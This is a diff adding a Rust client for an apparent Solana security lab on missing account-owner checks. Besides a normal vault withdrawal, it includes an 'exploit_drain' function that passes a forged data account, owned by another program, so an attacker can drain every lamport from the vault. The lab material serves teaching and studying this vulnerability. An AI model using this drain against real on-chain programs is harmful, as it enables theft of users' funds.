@@ -0,0 +1,50 @@
+//! missing_owner_check: withdrawing from a vault
+
+use anyhow::Result as AnyResult;
+use lab_instructions::missing_owner_check::withdraw_ix;
+use solana_program::pubkey::Pubkey;
+
+use crate::{Keypair, Signature, Signer};
+
+example_client!("missing_owner_check");
+
+impl Client {
+    /// `authority`, as named in `vault_data`, withdraws `amount` from
+    /// `vault` to `recipient`
+    pub async fn withdraw(
+        &self,
+        vault_data: Pubkey,
+        vault: Pubkey,
+        authority: &Keypair,
+        recipient: Pubkey,
+        amount: u64,
+    ) -> AnyResult<Signature> {
+        let withdraw = withdraw_ix(
+            self.program_id(),
+            vault_data,
+            vault,
+            authority.pubkey(),
+            recipient,
+            amount,
+        );
+        self.send(&[withdraw], &[authority]).await
+    }
+
+    /// Everything in `vault`, to the payer, on the say of `forged_data`: a
+    /// copy of the vault's data naming the payer as its authority, in an
+    /// account another program owns; returns the lamports taken
+    pub async fn exploit_drain(&self, forged_data: Pubkey, vault: Pubkey) -> AnyResult<u64> {
+        let stolen = self.lamports(vault).await?;
+        let attacker = self.payer().pubkey();
+        let withdraw = withdraw_ix(
+            self.program_id(),
+            forged_data,
+            vault,
+            attacker,
+            attacker,
+            stolen,
+        );
+        self.send(&[withdraw], &[]).await?;
+        Ok(stolen)
+    }
+}